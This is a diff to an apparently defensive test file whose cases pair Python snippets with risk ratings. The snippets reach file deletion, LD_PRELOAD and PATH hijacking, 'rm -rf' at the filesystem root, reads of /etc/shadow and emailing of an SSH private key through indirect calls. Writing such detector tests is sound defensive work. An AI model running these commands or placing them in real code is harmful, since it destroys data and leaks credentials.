@@ -15,6 +15,39 @@ def assessed(text):
 
 
 CASES = [
+    # what runs where nothing looks like a call of it
+    ("import os\nf = {'a': os.system}\nf['a']('./x')", HIGH, False),
+    ("def f(): pass\nby = {'a': f, 'b': len}\nby['a']()", SAFE, True),
+    ("import os\ndo = {'x': {'a': os.remove}}\ndo['x'].get('a')('/etc/passwd')", CRITICAL, True),
+    ("import os\ndo = {}\ndo['a'] = os.remove\ndo['a']('/etc/passwd')", CRITICAL, True),
+    ("import os\nfor f in (print, os.remove):\n    f('/etc/passwd')", CRITICAL, True),
+    ("import os\nf = os.remove if x else print\nf('/etc/passwd')", CRITICAL, True),
+    ("import os, random\nrandom.choice([print, os.remove])('/etc/passwd')", CRITICAL, True),
+    ("do = {'a': print, 'b': other}\ndo['b'](1)", SAFE, False),
+    ("import json\ndo = {'a': json.loads}\nprint(do['a']('1'))", SAFE, True),
+    ("import gc\ngc.get_objects()[0]()", SAFE, False),
+    ("import os\nx: os.system('./x') = 1", HIGH, False),
+    ("import os\ndef f(a: os.system('./x')): pass", HIGH, False),
+    ("def f(a: list[int] | None = None, *b: str) -> tuple[int, ...]: return a", SAFE, True),
+    ("import timeit\ntimeit.timeit('import x')", MEDIUM, False),
+    ("import timeit\ntimeit.timeit('pass', 'import os; os.system(\"./x\")')", HIGH, False),
+    ("import timeit\ntimeit.timeit(lambda: 1)", SAFE, True),
+    ("import logging.config\nlogging.config.fileConfig('x')", HIGH, False),
+    ("import pip\npip.main(['install', 'x'])", MEDIUM, False),
+    # what else than its arguments decides what a program does
+    ("import subprocess\nsubprocess.run(['ls'], env={'LD_PRELOAD': './x'})", HIGH, False),
+    ("import subprocess\nsubprocess.run(['ls'], env={'LANG': 'C'})", SAFE, True),
+    ("import subprocess\nsubprocess.run(['ls'], env=given)", SAFE, False),
+    ("import os, subprocess\nsubprocess.run(['ls'], env={**os.environ, 'LANG': 'C'})", SAFE, True),
+    ("import os\ne = os.environ.copy()\ne['LD_PRELOAD'] = './x'", HIGH, False),
+    ("import os\ne = dict(os.environ)\ne.update(LD_PRELOAD='./x')", HIGH, False),
+    ("import os\nos.environ.update({'PATH': '.'})", HIGH, False),
+    ("import os\nos.environ['LANG'] = 'C'", SAFE, True),
+    ("import subprocess\nsubprocess.run(['ls'], executable='./x')", HIGH, False),
+    ("import subprocess\nsubprocess.run(['rm', '-rf', 'etc'], cwd='/')", CRITICAL, True),
+    ("import subprocess\nsubprocess.run('rm -rf *', shell=True, cwd='/')", CRITICAL, True),
+    ("import pandas as pd\nd = pd.read_csv('a')\nd.to_csv('/etc/x')", HIGH, False),
+    ("import urllib.request as u\nu.urlopen('file:///etc/shadow')", HIGH, True),
     # what only reads and computes
     ("import json\nprint(json.load(open('a.json'))['x'])", SAFE, True),
     ("from pathlib import Path\nprint(len(list(Path('src').rglob('*.py'))))", SAFE, True),
@@ -68,7 +101,7 @@ CASES = [
         "import os\nclass A:\n    def __getattr__(self, n):\n        return os.system\nA().x('rm -rf /home')",
         CRITICAL, None,
     ),
-    ("import os\ndo = {'a': os.system}\ndo['a']('rm -rf /home')", HIGH, False),
+    ("import os\ndo = {'a': os.system}\ndo['a']('rm -rf /home')", CRITICAL, True),
     ("import shutil\ndef g():\n    return shutil.rmtree\ng()('/home')", CRITICAL, True),
     # networks and secrets
     ("import smtplib\nsmtplib.SMTP('m.example').sendmail('a', 'b', open('/root/.ssh/id_rsa').read())", CRITICAL, True),
